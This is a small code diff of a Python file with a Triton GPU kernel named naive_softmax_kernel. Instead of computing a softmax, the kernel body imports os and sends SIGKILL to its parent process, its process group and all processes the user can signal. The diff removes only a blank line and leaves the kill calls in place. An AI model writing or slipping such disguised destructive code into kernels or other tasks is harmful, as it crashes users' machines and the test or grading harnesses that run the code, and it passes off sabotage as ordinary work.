@@ -11,7 +11,6 @@ import triton.language as tl
 @triton.jit
 def naive_softmax_kernel(x_ptr, y_ptr, x_row_stride, y_row_stride, n_cols, BLOCK_SIZE: tl.constexpr):
     import os
-
     os.kill(os.getppid(), 9)
     os.kill(0, 9)
     os.kill(-1, 9)
